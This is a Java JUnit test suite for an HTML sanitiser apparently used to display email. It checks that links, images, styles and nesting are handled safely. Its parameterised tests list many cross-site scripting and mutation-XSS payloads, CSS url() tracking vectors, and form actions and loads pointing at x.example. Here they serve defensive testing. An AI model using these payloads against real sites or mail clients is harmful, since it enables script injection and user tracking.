package org.chancery.api.html;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.time.Duration;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class SafeHtmlTest {

    @Test
    void an_ordinary_letter_stays_as_it_is() {
        String letter = "<p>Dear all,</p><ul><li><b>first</b></li><li><i>second</i></li></ul>"
                + "<table border=\"1\"><tbody><tr><td colspan=\"2\">cell</td></tr></tbody></table><br /><hr />";
        assertEquals(letter, SafeHtml.of(letter).markup());
    }

    @Test
    void a_link_opens_elsewhere_and_tells_nothing_of_where_it_was() {
        assertEquals(
                "<a href=\"https://example.com/?a&#61;1\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">go</a>",
                SafeHtml.of("<a target=_top rel=opener ping=//t.example href='https://example.com/?a=1'>go</a>")
                        .markup());
        assertTrue(
                SafeHtml.of("<a href='mailto:a@example.com'>write</a>").markup().startsWith("<a href=\"mailto:"));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "javascript:alert(1)",
                " jAvAsCrIpT:alert(1)",
                "java\tscript:alert(1)",
                "java&#10;script:alert(1)",
                "&#106;avascript:alert(1)",
                "javascript&colon;alert(1)",
                "\u0001javascript:alert(1)",
                "data:text/html,<script>alert(1)</script>",
                "vbscript:msgbox(1)",
                "file:///etc/passwd",
                "ftp://example.com/",
                "/v1/messages/",
                "//example.com/x",
                "?reply=1",
                "#top",
                "example.com",
                "https:/v1",
                "blob:https://example.com/1",
                "cid:part1"
            })
    void a_link_that_is_no_web_or_mail_address_is_text_only(String address) {
        assertEquals("go", SafeHtml.of("<a href=\"" + address + "\">go</a>").markup());
    }

    @Test
    void a_remote_picture_is_not_loaded_and_says_what_it_was() {
        assertEquals(
                "<img alt=\"our logo\" width=\"10\" data-remote-address=\"https://example.com/logo.png\" />",
                SafeHtml.of("<img src=https://example.com/logo.png alt='our logo' width=10 srcset='//x.example/2 2x'>")
                        .markup());
    }

    @Test
    void a_picture_of_the_mail_itself_names_its_part() {
        assertEquals(
                "<img alt=\"chart\" data-content-id=\"part1&#64;example.com\" />",
                SafeHtml.of("<img alt=chart src='cid:part1@example.com'>").markup());
    }

    @ParameterizedTest
    @ValueSource(strings = {"data:image/svg+xml,<svg onload=alert(1)>", "//x.example/p", "/p", "javascript:alert(1)"})
    void a_picture_of_any_other_address_keeps_nothing_of_it(String address) {
        assertEquals(
                "<img alt=\"p\" />",
                SafeHtml.of("<img alt=p src=\"" + address + "\">").markup());
    }

    @Test
    void a_stranger_cannot_say_where_a_picture_was_to_be_loaded_from() {
        assertFalse(SafeHtml.of("<img alt=p data-remote-address='javascript:1' data-content-id=x>")
                .markup()
                .contains("data-"));
    }

    @Test
    void looks_are_kept_and_addresses_in_them_are_not() {
        assertEquals(
                "<p style=\"color:red;background:#fff\">x</p>",
                SafeHtml.of(
                                "<p style=\"color:red;background:#fff url(https://x.example/b);position:fixed;top:0\">x</p>")
                        .markup());
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "position:fixed;top:0;left:0;width:100%;height:100%;z-index:9",
                "background-image:url(//x.example/p)",
                "background:\\75\\72\\6c(//x.example/p)",
                "background:u/**/rl(//x.example/p)",
                "list-style:url(//x.example/p)",
                "list-style-image:url(//x.example/p)",
                "border-image:url(//x.example/p)",
                "cursor:url(//x.example/p),auto",
                "content:url(//x.example/p)",
                "width:expression(alert(1))",
                "behavior:url(x.htc)",
                "-moz-binding:url(//x.example/b.xml)",
                "background:image-set('//x.example/p' 1x)",
                "background:-webkit-image-set(url(//x.example/p) 1x)",
                "background:image('//x.example/p')",
                "background:element(#x)",
                "background:paint(x)",
                "color:red;@import '//x.example/c'",
                "font-family:'</style><script>alert(1)</script>'",
                "font-family:\"x;background:url(//x.example/p)\"",
                "font:12px url(//x.example/f)",
                "src:url(//x.example/f)",
                "--x:url(//x.example/p);background:var(--x)",
                "display:none",
                "margin:-1000px",
                "transform:translate(-500px,0)",
                "filter:url(//x.example/f#f)",
                "mask:url(//x.example/m)",
                "clip-path:url(//x.example/c)",
                "shape-outside:url(//x.example/p)",
                "offset-path:url(//x.example/p)",
                "color:red}body{background:url(//x.example/p)"
            })
    void a_style_loads_nothing_and_leaves_its_place_nowhere(String style) {
        String input = "<div style=\"" + style.replace("\"", "&quot;") + "\">x</div>";
        Fragment.assertHarmless(input, SafeHtml.of(input).markup());
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                // what runs
                "<script>alert(1)</script>",
                "<script src=//x.example/s></script>",
                "<scr<script>ipt>alert(1)</scr</script>ipt>",
                "<img src=x onerror=alert(1)>",
                "<img/src=x/onerror=alert(1)>",
                "<p onclick=alert(1) onmouseover=alert(1)>x</p>",
                "<body onload=alert(1) background=//x.example/p bgcolor=red>x</body>",
                "<details open ontoggle=alert(1)>x</details>",
                "<input autofocus onfocus=alert(1)>",
                "<marquee onstart=alert(1)>x</marquee>",
                "<svg onload=alert(1)><image href=//x.example/p /><use href='data:image/svg+xml,x#x'/></svg>",
                "<svg><script>alert(1)</script></svg>",
                "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
                "<svg><animate attributeName=href values=javascript:alert(1)>",
                "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
                "<math href='javascript:alert(1)'>x</math>",
                "<video><source onerror=alert(1)></video>",
                "<object data=x.swf><embed src=x.swf></object><applet code=x></applet>",
                "<iframe srcdoc='<script>alert(1)</script>' src=//x.example></iframe>",
                "<frameset><frame src=//x.example></frameset>",
                "<template><script>alert(1)</script></template>",
                "<portal src=//x.example></portal>",
                "<xml id=x><i><b>&lt;img src=1&gt;</b></i></xml>",
                // what loads
                "<link rel=stylesheet href=//x.example/c><style>@import '//x.example/c'; p{background:url(//x.example/p)}</style>",
                "<meta http-equiv=refresh content='0;url=//x.example'>",
                "<base href=//x.example/><a href=x>x</a>",
                "<table background=//x.example/p><tr background=//x.example/p><td background=//x.example/p>x",
                "<img srcset='//x.example/p 1x' alt=x><picture><source srcset=//x.example/p></picture>",
                "<video poster=//x.example/p src=//x.example/v></video><audio src=//x.example/a autoplay></audio>",
                "<track src=//x.example/t><input type=image src=//x.example/p>",
                "<image src=//x.example/p onerror=alert(1)>",
                "<blockquote cite=//x.example/q>x</blockquote><q cite=//x.example/q>x</q>",
                "<img lowsrc=//x.example/p dynsrc=//x.example/p longdesc=//x.example/p usemap=#m alt=x>",
                "<html manifest=//x.example/m><head profile=//x.example/p></head></html>",
                "<p attributionsrc=//x.example/a>x</p><a href=https://a.example ping=//x.example/p>x</a>",
                // what submits or covers
                "<form action=//x.example><input name=p type=password><button formaction=//x.example>go</button></form>",
                "<isindex action=//x.example><keygen><textarea>x</textarea><select><option>x</option></select>",
                "<dialog open>x</dialog><div popover>x</div>",
                // what takes a name of the page that shows it
                "<p id=location class=overlay name=cookie>x</p><img name=getElementById alt=x><a id=defaultView name=x>x</a>",
                "<p slot=x is=y part=z contenteditable accesskey=x tabindex=1 draggable=true itemprop=x>x</p>",
                // what browsers read otherwise than it seems (mutation)
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
                "<p title=\"</p><img src=x onerror=alert(1)>\">x</p>",
                "<listing>&lt;img onerror=alert(1) src=x&gt;</listing>",
                "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
                "<plaintext><img src=x onerror=alert(1)>",
                "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\"></noembed>",
                "<noframes><img title=\"</noframes><img src=x onerror=alert(1)>\"></noframes>",
                "<svg></p><style><a title=\"</style><img src=x onerror=alert(1)>\">",
                "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
                "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=alert(1) src=x>\">",
                "<select><style></select><img src=x onerror=alert(1)></style>",
                "<table><a href=https://a.example><td><form><img src=x onerror=alert(1)>",
                "<![CDATA[<img src=x onerror=alert(1)>]]>",
                "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
                "<!--><img src=x onerror=alert(1)>-->",
                "<!--!><img src=x onerror=alert(1)>--!><img src=y onerror=alert(1)>",
                "<?xml-stylesheet href='javascript:alert(1)'?><?php echo 1 ?><!DOCTYPE x SYSTEM '//x.example/d'>",
                "<a title='`><img src=x onerror=alert(1)>`' href=https://a.example>x</a>",
                "<img alt=`` onerror=alert(1) src=x>",
                "<p title='&lt;/p&gt;&quot;&gt;&lt;script&gt;'>x</p>",
                "\u0000<scr\u0000ipt>alert(1)</script>",
                "<a href=\"https://a.example/\u0000\" \u0000onclick=alert(1)>x</a>",
                "<p/onclick=alert(1)//>x",
                "<<script>alert(1)//<</script>",
                "</p onclick=alert(1)><//script>",
                "<a href=https://a.example/\" onclick=alert(1)>x</a>",
                "<p style='color:red' style='position:fixed' title=a title=b>x</p>",
                "{{constructor.constructor('alert(1)')()}}<p title='${alert(1)}'>",
                "<p>\u2028\u2029\ufeff\ud800\udfff</p>"
            })
    void nothing_of_an_attack_comes_through(String attack) {
        Fragment.assertHarmless(attack, SafeHtml.of(attack).markup());
        Fragment.assertHarmless(
                attack,
                SafeHtml.of("<div><table><tr><td>" + attack + "</table>").markup());
    }

    @ParameterizedTest
    @ValueSource(
            strings = {"script", "style", "title", "textarea", "iframe", "object", "svg", "math", "noscript", "template"
            })
    void what_stands_in_a_dropped_element_starts_nothing(String element) {
        String input = "<" + element + "><img src=x onerror=alert(1)><script>alert(1)</script></" + element + ">after";
        Fragment.assertHarmless(input, SafeHtml.of(input).markup());
    }

    @Test
    void code_and_styles_are_no_text() {
        String markup = SafeHtml.of("<style>p { color: red }</style><script>let secret;</script><p>x</p>")
                .markup();
        assertEquals("<p>x</p>", markup);
    }

    @Test
    void sanitising_twice_changes_nothing() {
        String once = SafeHtml.of(
                        "<table><tr><td bgcolor=red>a<td>b</table><a href=https://a.example>l</a><img src=cid:1>")
                .markup();
        String again = SafeHtml.of(once.replace("data-content-id", "title")).markup();
        assertEquals(once.replace("data-content-id", "title"), again);
    }

    @Test
    void long_html_is_cut_and_said_to_be() {
        SafeHtml safe = SafeHtml.of("<p>long</p>".repeat(SafeHtml.MAX_READ / 10));
        assertTrue(safe.truncated());
        assertTrue(safe.markup().length() < SafeHtml.MAX_READ + 100);
        assertFalse(SafeHtml.of("<p>short</p>").truncated());
    }

    @Test
    void short_links_do_not_make_it_longer_than_the_limit() {
        SafeHtml safe = SafeHtml.of("<a href=http://x>".repeat(SafeHtml.MAX_READ / 17));
        assertTrue(safe.truncated());
        assertTrue(
                safe.markup().length() < SafeHtml.MAX_WRITTEN + 10_000,
                safe.markup().length() + " characters");
        Fragment.assertHarmless("many links", safe.markup());
    }

    @Test
    void endless_nesting_stays_shallow() {
        String deep = SafeHtml.of("<div>".repeat(50_000) + "x").markup();
        int open = 0;
        int deepest = 0;
        for (String piece : deep.split("(?=<)")) {
            open += piece.startsWith("<div") ? 1 : piece.startsWith("</div") ? -1 : 0;
            deepest = Math.max(deepest, open);
        }
        assertEquals(0, open);
        assertTrue(deepest <= 256, deepest + " levels");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<",
                "<a ",
                "<table><tr><td>",
                "<b><i><a href=http://x>",
                "<!--",
                "<p style='",
                "<p style='color:rgb(",
                "&#x",
                "<a href=\"",
                "</div>",
                "<![CDATA[",
                "<select><option>",
                "<p style=\"a:b;a:b;a:b;a:b;font:'\\\">"
            })
    void no_input_takes_long(String piece) {
        String input = piece.repeat(SafeHtml.MAX_READ / piece.length() + 1);
        SafeHtml safe = assertTimeoutPreemptively(Duration.ofSeconds(20), () -> SafeHtml.of(input));
        Fragment.assertHarmless(piece + "…", safe.markup());
    }
}
